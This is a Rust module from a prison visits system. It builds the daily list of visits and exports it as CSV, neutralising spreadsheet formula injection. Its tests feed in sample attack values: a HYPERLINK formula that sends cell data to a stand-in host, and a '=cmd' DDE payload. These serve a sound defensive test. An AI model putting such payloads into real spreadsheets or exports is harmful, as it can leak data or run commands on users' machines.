//! The day list: a prison's booked (and cancelled) visits on one date, grouped by slot, as staff print it and
//! download it as a CSV file to open in a spreadsheet.

use chrono::NaiveDate;
use serde::{Deserialize, Serialize};
use uuid::Uuid;

use crate::slot::Slot;
use crate::visit::VisitState;

/// One visitor on the day list.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct DayListVisitor {
    /// First and last name.
    #[cfg_attr(feature = "openapi", schema(example = "Mary Smith"))]
    pub name: String,
    #[cfg_attr(feature = "openapi", schema(value_type = String, format = Date, example = "1980-07-01"))]
    pub date_of_birth: NaiveDate,
    /// True for the lead visitor.
    pub lead: bool,
    /// True when staff excluded this visitor: they must not be let in, although the visit goes ahead.
    pub excluded: bool,
}

/// One visit on the day list.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct DayListVisit {
    pub visit_id: Uuid,
    #[cfg_attr(feature = "openapi", schema(example = "7KQ2M9XD"))]
    pub reference: String,
    /// The prison's own reference for the booking, when staff gave one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[cfg_attr(feature = "openapi", schema(example = "RCI-2026-0412"))]
    pub booking_reference: Option<String>,
    /// `booked` or `cancelled`.
    pub state: VisitState,
    /// True for a closed visit (no contact, across a screen).
    pub closed_visit: bool,
    #[cfg_attr(feature = "openapi", schema(example = "John Smith"))]
    pub prisoner_name: String,
    #[cfg_attr(feature = "openapi", schema(example = "A1234BC"))]
    pub prisoner_number: String,
    #[cfg_attr(feature = "openapi", schema(value_type = String, format = Date, example = "1985-04-12"))]
    pub prisoner_dob: NaiveDate,
    /// Lead visitor first.
    pub visitors: Vec<DayListVisitor>,
}

/// One slot of the day, with its capacity and the visits in it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct DayListSlot {
    #[serde(flatten)]
    pub slot: Slot,
    /// Places for open visits.
    #[cfg_attr(feature = "openapi", schema(example = 10))]
    pub capacity: u32,
    /// Places for closed visits.
    #[cfg_attr(feature = "openapi", schema(example = 2))]
    pub closed_capacity: u32,
    pub visits: Vec<DayListVisit>,
}

/// A prison's booked and cancelled visits on one date, slot by slot in time order.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct DayList {
    pub prison_id: Uuid,
    #[cfg_attr(feature = "openapi", schema(value_type = String, format = Date, example = "2026-12-01"))]
    pub date: NaiveDate,
    pub slots: Vec<DayListSlot>,
}

/// The CSV columns, in order. The last one goes beyond the printed list: whoever is at the gate must know which
/// visitor not to let in.
pub const CSV_HEADER: [&str; 14] = [
    "slot date",
    "start",
    "end",
    "reference",
    "booking reference",
    "state",
    "closed visit",
    "prisoner number",
    "prisoner name",
    "prisoner date of birth",
    "visitor name",
    "visitor date of birth",
    "lead visitor",
    "visitor excluded",
];

/// The day list as a CSV file (RFC 4180: CRLF line endings, fields quoted when they hold a comma, a quote, CR or
/// LF, with quotes doubled), one row per visitor under a header row. A visit without visitors (anonymised, say)
/// still gets one row, with the visitor columns empty. Slots and visits keep the order they have in `list`.
///
/// Every value that a spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`, tab or CR) gets a
/// leading apostrophe, so a name typed as `=HYPERLINK(...)` by a visitor shows as text instead of running.
pub fn to_csv(list: &DayList) -> String {
    let mut out = String::new();
    push_row(&mut out, CSV_HEADER.iter().map(|h| (*h).to_string()));
    for day_slot in &list.slots {
        let slot = &day_slot.slot;
        for visit in &day_slot.visits {
            let visit_fields = [
                slot.date.to_string(),
                slot.start.format("%H:%M").to_string(),
                slot.end.format("%H:%M").to_string(),
                visit.reference.clone(),
                visit.booking_reference.clone().unwrap_or_default(),
                visit.state.as_str().to_string(),
                yes_no(visit.closed_visit),
                visit.prisoner_number.clone(),
                visit.prisoner_name.clone(),
                visit.prisoner_dob.to_string(),
            ];
            if visit.visitors.is_empty() {
                push_row(&mut out, visit_fields.iter().cloned().chain(std::iter::repeat_n(String::new(), 4)));
            }
            for visitor in &visit.visitors {
                let visitor_fields = [
                    visitor.name.clone(),
                    visitor.date_of_birth.to_string(),
                    yes_no(visitor.lead),
                    yes_no(visitor.excluded),
                ];
                push_row(&mut out, visit_fields.iter().cloned().chain(visitor_fields));
            }
        }
    }
    out
}

fn yes_no(b: bool) -> String {
    if b { "yes" } else { "no" }.to_string()
}

fn push_row(out: &mut String, fields: impl Iterator<Item = String>) {
    for (i, field) in fields.enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&csv_field(&field));
    }
    out.push_str("\r\n");
}

/// One field, neutralised against formula injection and then quoted if it needs to be.
fn csv_field(value: &str) -> String {
    let neutralised =
        if value.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{value}") } else { value.to_string() };
    if neutralised.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", neutralised.replace('"', "\"\""))
    } else {
        neutralised
    }
}

#[cfg(test)]
mod tests {
    use chrono::NaiveTime;

    use super::*;

    /// Just enough of RFC 4180 to read back what `to_csv` writes: quoted fields, doubled quotes, CRLF records.
    fn parse_csv(text: &str) -> Vec<Vec<String>> {
        let mut rows = Vec::new();
        let mut row = Vec::new();
        let mut field = String::new();
        let mut chars = text.chars().peekable();
        let mut in_quotes = false;
        while let Some(c) = chars.next() {
            if in_quotes {
                match c {
                    '"' if chars.peek() == Some(&'"') => {
                        chars.next();
                        field.push('"');
                    }
                    '"' => in_quotes = false,
                    _ => field.push(c),
                }
                continue;
            }
            match c {
                '"' => {
                    assert!(field.is_empty(), "a quote in the middle of an unquoted field: {field:?}");
                    in_quotes = true;
                }
                ',' => row.push(std::mem::take(&mut field)),
                '\r' => {
                    assert_eq!(chars.next(), Some('\n'), "a bare CR outside quotes");
                    row.push(std::mem::take(&mut field));
                    rows.push(std::mem::take(&mut row));
                }
                '\n' => panic!("a bare LF outside quotes"),
                _ => field.push(c),
            }
        }
        assert!(!in_quotes, "unterminated quoted field");
        assert!(field.is_empty() && row.is_empty(), "the last record must end with CRLF");
        rows
    }

    fn date(y: i32, m: u32, d: u32) -> NaiveDate {
        NaiveDate::from_ymd_opt(y, m, d).unwrap()
    }

    fn time(h: u32, m: u32) -> NaiveTime {
        NaiveTime::from_hms_opt(h, m, 0).unwrap()
    }

    fn visitor(name: &str, lead: bool) -> DayListVisitor {
        DayListVisitor { name: name.to_string(), date_of_birth: date(1980, 7, 1), lead, excluded: false }
    }

    fn visit(reference: &str, prisoner_name: &str, visitors: Vec<DayListVisitor>) -> DayListVisit {
        DayListVisit {
            visit_id: Uuid::nil(),
            reference: reference.to_string(),
            booking_reference: None,
            state: VisitState::Booked,
            closed_visit: false,
            prisoner_name: prisoner_name.to_string(),
            prisoner_number: "A1234BC".to_string(),
            prisoner_dob: date(1985, 4, 12),
            visitors,
        }
    }

    fn list(visits: Vec<DayListVisit>) -> DayList {
        DayList {
            prison_id: Uuid::nil(),
            date: date(2026, 12, 1),
            slots: vec![DayListSlot {
                slot: Slot::new(date(2026, 12, 1), time(14, 0), time(16, 10)),
                capacity: 10,
                closed_capacity: 2,
                visits,
            }],
        }
    }

    #[test]
    fn the_csv_has_a_header_and_one_crlf_row_per_visitor() {
        let mut closed =
            visit("7KQ2M9XD", "John Smith", vec![visitor("Mary Smith", true), visitor("Amy Smith", false)]);
        closed.closed_visit = true;
        closed.booking_reference = Some("RCI-0412".into());
        closed.visitors[1].excluded = true;
        let mut cancelled = visit("4TR8HN2W", "Ali Khan", vec![visitor("Sara Khan", true)]);
        cancelled.state = VisitState::Cancelled;
        let csv = to_csv(&list(vec![closed, cancelled]));

        assert!(csv.ends_with("\r\n"));
        assert_eq!(csv.matches("\r\n").count(), 4);
        assert_eq!(csv.matches('\n').count(), 4, "every line ends with CRLF");
        let rows = parse_csv(&csv);
        assert_eq!(rows[0], CSV_HEADER);
        assert_eq!(
            rows[1],
            [
                "2026-12-01",
                "14:00",
                "16:10",
                "7KQ2M9XD",
                "RCI-0412",
                "booked",
                "yes",
                "A1234BC",
                "John Smith",
                "1985-04-12",
                "Mary Smith",
                "1980-07-01",
                "yes",
                "no"
            ]
        );
        assert_eq!(rows[2][10..], ["Amy Smith", "1980-07-01", "no", "yes"]);
        assert_eq!(rows[3][3..7], ["4TR8HN2W", "", "cancelled", "no"]);
    }

    #[test]
    fn a_visit_without_visitors_still_gets_a_row() {
        let rows = parse_csv(&to_csv(&list(vec![visit("7KQ2M9XD", "John Smith", vec![])])));
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[1].len(), CSV_HEADER.len());
        assert_eq!(rows[1][3], "7KQ2M9XD");
        assert!(rows[1][10..].iter().all(String::is_empty));
    }

    #[test]
    fn an_empty_day_is_just_the_header() {
        let mut empty = list(vec![]);
        assert_eq!(parse_csv(&to_csv(&empty)), vec![CSV_HEADER.to_vec()]);
        empty.slots.clear();
        assert_eq!(to_csv(&empty).matches("\r\n").count(), 1);
    }

    #[test]
    fn names_with_commas_quotes_and_line_breaks_are_quoted_and_read_back_whole() {
        let awkward = ["Smith, John", "John \"Jack\" O'Neil", "Line\nbreak", "Carriage\rreturn", "\"quoted\""];
        let visitors = awkward.iter().map(|name| visitor(name, false)).collect();
        let csv = to_csv(&list(vec![visit("7KQ2M9XD", "O\"Brien, Pat", visitors)]));
        assert!(csv.contains("\"Smith, John\""));
        assert!(csv.contains("\"John \"\"Jack\"\" O'Neil\""));
        let rows = parse_csv(&csv);
        assert_eq!(rows.len(), 1 + awkward.len());
        for (row, name) in rows[1..].iter().zip(awkward) {
            assert_eq!(row.len(), CSV_HEADER.len());
            assert_eq!(row[8], "O\"Brien, Pat");
            assert_eq!(row[10], name);
        }
    }

    #[test]
    fn values_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe() {
        let formulas = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+44 7700 900123",
            "-2+3",
            "@SUM(A1:A9)",
            "\tTabbed",
            "\rReturned",
        ];
        let visitors = formulas.iter().map(|name| visitor(name, false)).collect();
        let mut v = visit("7KQ2M9XD", "=1+1", visitors);
        v.booking_reference = Some("=cmd|' /C calc'!A0".into());
        let rows = parse_csv(&to_csv(&list(vec![v])));
        for (row, name) in rows[1..].iter().zip(formulas) {
            assert_eq!(row[10], format!("'{name}"));
            assert_eq!(row[8], "'=1+1");
            assert_eq!(row[4], "'=cmd|' /C calc'!A0");
        }
    }

    #[test]
    fn ordinary_values_are_written_as_they_are() {
        assert_eq!(csv_field("Mary Smith"), "Mary Smith");
        assert_eq!(csv_field("O'Neil"), "O'Neil");
        assert_eq!(csv_field("Mary-Jane"), "Mary-Jane");
        assert_eq!(csv_field(""), "");
        assert_eq!(csv_field("=a,b"), "\"'=a,b\"");
        assert_eq!(csv_field("\rx"), "\"'\rx\"");
    }

    #[test]
    fn the_day_list_json_puts_the_slot_times_beside_the_capacity() {
        let json = serde_json::to_value(list(vec![])).unwrap();
        assert_eq!(json["slots"][0]["start"], "14:00");
        assert_eq!(json["slots"][0]["end"], "16:10");
        assert_eq!(json["slots"][0]["capacity"], 10);
        let back: DayList = serde_json::from_value(json).unwrap();
        assert_eq!(back, list(vec![]));
    }
}
